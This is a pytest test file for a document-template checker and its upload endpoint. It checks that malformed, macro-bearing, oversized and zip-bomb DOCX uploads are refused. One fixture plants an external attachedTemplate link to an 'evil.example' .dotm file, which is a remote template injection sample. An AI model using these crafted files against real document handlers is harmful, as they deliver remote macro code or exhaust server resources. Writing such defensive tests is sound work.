"""`govtool templates check` and template uploads: findings, refusals, versions."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from docx import Document

from govtool.agreements.models import AgreementTemplate
from govtool.auth.models import Role
from govtool.extensions import db

from ..factories import make_user
from .factories import template

SHIPPED = Path(__file__).resolve().parents[2] / "agreement_templates"


def _docx(build) -> bytes:
    document = Document()
    build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _split_run_doc(document):
    paragraph = document.add_paragraph("Nummer: ")
    paragraph.add_run("{{ agree")
    paragraph.add_run("ment.number }}").bold = True


def _curly_doc(document):
    document.add_paragraph("Titel: {{ agreement.title|default(“ohne”) }}")


def _run_check(app, tmp_path, data: bytes, name: str = "t.docx"):
    path = tmp_path / name
    path.write_bytes(data)
    return app.test_cli_runner().invoke(args=["templates", "check", str(path)])


@pytest.mark.parametrize("filename", sorted(p.name for p in SHIPPED.glob("*.docx")))
def test_shipped_templates_pass_the_check(app, db, tmp_path, filename):
    result = _run_check(app, tmp_path, (SHIPPED / filename).read_bytes(), filename)
    assert result.exit_code == 0, result.output
    assert "agreement" in result.output and "OK." in result.output


def test_check_finds_a_tag_split_across_runs(app, db, tmp_path):
    result = _run_check(app, tmp_path, _docx(_split_run_doc))
    assert "{{ agreement.number }}" in result.output
    assert "split across 2 text runs" in result.output
    assert 'in paragraph: "Nummer: {{ agreement.number }}"' in result.output
    assert "agreement" in result.output.split("Variables used:")[1].splitlines()[0]


def test_check_finds_a_curly_quoted_tag(app, db, tmp_path):
    result = _run_check(app, tmp_path, _docx(_curly_doc))
    assert "typographic quotes" in result.output
    assert "Titel: {{ agreement.title|default(“ohne”) }}" in result.output


def test_check_reports_syntax_errors_and_unprovided_variables_and_exits_non_zero(app, db, tmp_path):
    def build(document):
        document.add_paragraph("Gut: {{ agreement.number }}")
        document.add_paragraph("Schlecht: {% if agreement.title %} ohne endif")

    result = _run_check(app, tmp_path, _docx(build))
    assert result.exit_code == 1
    assert "ERROR" in result.output and "Schlecht:" in result.output

    unknown = _run_check(
        app, tmp_path, _docx(lambda d: d.add_paragraph("{{ budget }} {{ agreement.numbr }}"))
    )
    assert unknown.exit_code == 1
    assert "Not provided by any agreement: agreement.numbr, budget" in unknown.output


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in entries.items():
            package.writestr(name, data)
    return out.getvalue()


def _with_extra(entries: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    base = (SHIPPED / "kooperationsvereinbarung.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        members = {n: package.read(n) for n in package.namelist()}
    members.update(replace or {})
    members.update(entries)
    return _zip(members)


def _external_rels() -> bytes:
    base = (SHIPPED / "kooperationsvereinbarung.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        rels = package.read("word/_rels/document.xml.rels")
    link = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return _with_extra(
        {}, {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", link)}
    )


# Expected messages are German: the UI language defaults to German.
REFUSALS = [
    ("not-a-zip.docx", lambda: b"PK\x03\x04 not really a zip", "kein DOCX-Dokument"),
    (
        "vorlage.docm",
        lambda: (SHIPPED / "zielvereinbarung.docx").read_bytes(),
        "mit Makros (.docm)",
    ),
    ("macros.docx", lambda: _with_extra({"word/vbaProject.bin": b"\x00" * 10}), "enthält Makros"),
    ("extern.docx", _external_rels, "externe Inhalte"),
    ("gross.docx", lambda: b"PK" + b"\x00" * (10 * 1024 * 1024 + 10), "größer als 10 MB"),
    (
        "bombe.docx",
        lambda: _with_extra({"word/media/bomb.bin": b"\x00" * (101 * 1024 * 1024)}),
        "ZIP-Bombe",
    ),
    (
        "kaputt.docx",
        lambda: _docx(lambda d: d.add_paragraph("{{ agreement.number }")),
        "Unbalanced",
    ),
]


@pytest.mark.parametrize(("filename", "make", "message"), REFUSALS, ids=[r[0] for r in REFUSALS])
def test_upload_refusals_give_a_clear_error_and_save_nothing(
    app, client, login, filename, make, message
):
    make_user("admin-t@example.org", roles=(Role.ADMIN,))
    db.session.commit()
    login("admin-t@example.org")
    before = db.session.scalar(sa.select(sa.func.count(AgreementTemplate.id)))
    response = client.post(
        "/agreements/templates/upload",
        data={
            "file": (io.BytesIO(make()), filename),
            "code": "",
            "name": "Neue Vorlage",
            "kind": "cooperation",
            "description": "",
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.scalar(sa.select(sa.func.count(AgreementTemplate.id))) == before


def test_upload_of_a_new_version_keeps_the_old_one(app, client, login):
    from govtool.auth.models import Role

    old = template("zielvereinbarung")
    make_user("admin-t@example.org", roles=(Role.ADMIN,))
    db.session.commit()
    login("admin-t@example.org")

    def build(document):
        document.add_paragraph("Zielvereinbarung {{ agreement.number }}")

    response = client.post(
        "/agreements/templates/upload",
        data={
            "file": (io.BytesIO(_docx(build)), "ziel-v2.docx"),
            "code": old.code,
            "name": old.name,
            "kind": "target",
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    versions = db.session.scalars(
        sa.select(AgreementTemplate).where(AgreementTemplate.code == old.code)
    ).all()
    assert sorted(v.version for v in versions) == [1, 2]


def test_municipality_cannot_upload_templates(client, login):
    from govtool.auth.models import Role

    make_user("kommune-t@example.org", roles=(Role.MUNICIPALITY,))
    db.session.commit()
    login("kommune-t@example.org")
    assert client.get("/agreements/templates/upload").status_code == 403
